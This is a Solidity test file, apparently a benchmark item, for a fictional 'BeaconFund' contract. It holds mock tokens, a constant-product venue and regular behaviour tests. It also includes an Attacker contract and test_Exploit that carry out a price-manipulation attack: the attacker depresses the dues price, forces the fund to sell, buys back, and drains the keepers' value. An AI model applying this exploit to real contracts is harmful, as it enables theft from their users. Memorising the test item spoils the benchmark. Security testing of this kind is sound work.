// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

import "./BeaconFund.sol";

// assay-canary-b4a7ac15-dfc4-4790-ae4d-d53b73ab8065

interface Vm {
    function warp(uint256 time) external;
    function prank(address who) external;
    function expectRevert(bytes4 reason) external;
}

contract Money is IMoney {
    address private maker = msg.sender;
    bool private asleep;

    /// While it sleeps, it says no.
    function sleep(bool asleep_) external {
        require(msg.sender == maker, "maker only");
        asleep = asleep_;
    }

    address private minter = msg.sender;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;

    function mint(address to, uint256 amount) external {
        require(msg.sender == minter, "minter only");
        balanceOf[to] += amount;
    }

    address private refused;

    /// Whoever is refused gets no approval written.
    function refuse(address who) external {
        require(msg.sender == minter, "minter only");
        refused = who;
    }

    function approve(address spender, uint256 amount) external returns (bool) {
        allowance[msg.sender][spender] = amount;
        if (msg.sender == refused) return false;
        return true;
    }

    function transfer(address to, uint256 amount) external returns (bool) {
        if (asleep) return false;
        balanceOf[msg.sender] -= amount;
        balanceOf[to] += amount;
        return true;
    }

    function transferFrom(address from, address to, uint256 amount) external {
        allowance[from][msg.sender] -= amount;
        balanceOf[from] -= amount;
        balanceOf[to] += amount;
    }
}

/// A constant product, five ten-thousandths for the venue.
contract Venue is IVenue {
    Money internal immutable one;
    Money internal immutable two;

    constructor(Money one_, Money two_) {
        (one, two) = (one_, two_);
    }

    function quote(IMoney moneyIn, uint256 amount) public view returns (uint256) {
        Money moneyOut = address(moneyIn) == address(one) ? two : one;
        uint256 net = amount * 9995 / 10_000;
        return moneyOut.balanceOf(address(this)) * net / (moneyIn.balanceOf(address(this)) + net);
    }

    function trade(IMoney moneyIn, uint256 amount, uint256 leastOut) external returns (uint256 out) {
        require(address(moneyIn) == address(one) || address(moneyIn) == address(two), "pair");
        out = quote(moneyIn, amount);
        require(out >= leastOut, "least");
        Money(address(moneyIn)).transferFrom(msg.sender, address(this), amount);
        (address(moneyIn) == address(one) ? two : one).transfer(msg.sender, out);
    }
}

/// Lowers the price of dues, has the fund sell, and buys back.
contract Attacker {
    BeaconFund internal fund;
    Venue internal venue;
    Money internal dues;
    Money internal upkeep;

    constructor(BeaconFund fund_, Venue venue_, Money dues_, Money upkeep_) {
        (fund, venue, dues, upkeep) = (fund_, venue_, dues_, upkeep_);
        dues.approve(address(venue_), type(uint256).max);
        upkeep.approve(address(venue_), type(uint256).max);
    }

    function run() external {
        uint256 got = venue.trade(dues, dues.balanceOf(address(this)), 0);
        fund.change();
        venue.trade(upkeep, got, 0);
    }
}

contract Proof {
    Vm internal constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address internal constant NESS = address(0x4E55);
    address internal constant SKERRY = address(0x5CE1);

    Money internal dues;
    Money internal upkeep;
    Venue internal venue;
    BeaconFund internal fund;
    Attacker internal wrecker;

    function setUp() public {
        vm.warp(1_700_000_000);
        dues = new Money();
        upkeep = new Money();
        venue = new Venue(dues, upkeep);
        dues.mint(address(venue), 500_000e18);
        upkeep.mint(address(venue), 1_000_000e18);
        fund = new BeaconFund(dues, upkeep, venue, 2e18);
        fund.addKeeper(NESS, 3);
        fund.addKeeper(SKERRY, 1);
        dues.mint(address(fund), 2_000e18);
        vm.warp(block.timestamp + 8 days);
        wrecker = new Attacker(fund, venue, dues, upkeep);
        dues.mint(address(wrecker), 500_000e18);
    }

    function test_Regular() public {
        require(fund.worth() == 4_000e18, "worth");
        uint256 out = fund.change();
        require(out > 3_940e18 && out < 3_980e18, "close to the agreed rate");
        require(dues.balanceOf(address(this)) == 10e18, "for the trouble");
        dues.mint(address(fund), 1_000e18);
        (bool ok,) = address(fund).call(abi.encodeCall(fund.change, ()));
        require(!ok, "once a week");
        require(fund.drawable(NESS) == out * 3 / 4, "three portions");
        vm.prank(NESS);
        fund.draw();
        require(upkeep.balanceOf(NESS) == out * 3 / 4 && fund.drawable(NESS) == 0, "drawn");
        vm.warp(block.timestamp + 7 days);
        uint256 more = fund.change();
        vm.prank(SKERRY);
        require(fund.draw() == (out + more) / 4, "both weeks");
        (ok,) = address(fund).call(abi.encodeCall(fund.draw, ()));
        require(!ok, "no keeper");
        (ok,) = address(fund).call(abi.encodeCall(fund.addKeeper, (address(this), 4)));
        require(!ok, "keepers are set");

        fund.agreeRate(3e18);
        require(fund.agreedRate() == 3e18, "agreed");
    }

    /// Worth of what the keepers have coming.
    function forKeepers() public view returns (uint256) {
        return fund.worth();
    }

    // What is refused, each from the state after setUp().

    /// The next call is made by who, and reverts for this reason.
    function refuses(address who, bytes4 why) internal {
        vm.prank(who);
        vm.expectRevert(why);
    }

    /// Rates and keepers are the trustee's, and changes are of something.
    function test_RefusesStrangers() public {
        refuses(NESS, BeaconFund.TrusteeOnly.selector);
        fund.agreeRate(1);
        refuses(NESS, BeaconFund.TrusteeOnly.selector);
        fund.addKeeper(NESS, 9);
        fund.change();
        vm.warp(block.timestamp + 7 days);
        vm.expectRevert(BeaconFund.NothingToChange.selector);
        fund.change();
    }

    /// Money that says no is believed.
    function test_RefusesFailedTransfers() public {
        fund.change();
        upkeep.sleep(true);
        refuses(NESS, BeaconFund.MoneyFailed.selector);
        fund.draw();
        dues.mint(address(fund), 1e18);
        dues.refuse(address(fund));
        vm.warp(block.timestamp + 7 days);
        vm.expectRevert(BeaconFund.MoneyFailed.selector);
        fund.change();
    }

    function exploit() public {
        wrecker.run();
    }

    function test_Exploit() public {
        uint256 before = dues.balanceOf(address(wrecker));
        exploit();
        require(forKeepers() < 1_100e18, "keepers have their upkeep");
        require(dues.balanceOf(address(wrecker)) > before + 900e18, "nothing gained");
    }

    function target() public view returns (address) {
        return address(fund);
    }

    function attacker() public view returns (address) {
        return address(wrecker);
    }
}
